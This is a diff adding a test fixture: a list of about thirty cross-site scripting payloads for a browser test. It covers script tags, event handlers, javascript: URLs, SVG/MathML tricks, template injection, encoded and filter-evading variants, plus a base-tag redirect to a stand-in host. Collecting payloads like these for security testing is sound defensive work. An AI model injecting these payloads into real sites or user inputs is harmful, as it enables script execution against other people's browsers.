@@ -1,0 +1,36 @@
+/**
+ * The project's own XSS payloads, for the browser test when the shared payload list is absent: script
+ * tags, event handlers, script URLs, SVG/MathML, attribute and tag breaking, template and CSS tricks.
+ */
+export const OWN_XSS_PAYLOADS = [
+  "<script>alert(1)</script>",
+  "<ScRiPt>alert(document.domain)</sCrIpT>",
+  '"><script>alert(1)</script>',
+  "'><img src=x onerror=alert(1)>",
+  "<img src=x onerror=alert(1)>",
+  "<svg onload=alert(1)>",
+  "<svg><script>alert(1)</script></svg>",
+  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+  "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
+  "<iframe src=javascript:alert(1)>",
+  "<a href=\"javascript:alert(1)\">click</a>",
+  "javascript:alert(1)",
+  "<body onload=alert(1)>",
+  "<details open ontoggle=alert(1)>",
+  "<input autofocus onfocus=alert(1)>",
+  "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+  "<embed src=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
+  "<base href=\"//evil.example/\">",
+  "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+  "<style>*{background:url(javascript:alert(1))}</style>",
+  "<div style=\"background-image:url(javascript:alert(1))\">",
+  "{{constructor.constructor('alert(1)')()}}",
+  "${alert(1)}",
+  "</textarea><script>alert(1)</script>",
+  "</title><script>alert(1)</script>",
+  "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">",
+  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
+  "<scr<script>ipt>alert(1)</scr</script>ipt>",
+  "<video><source onerror=alert(1)></video>",
+  "<marquee onstart=alert(1)>",
+];
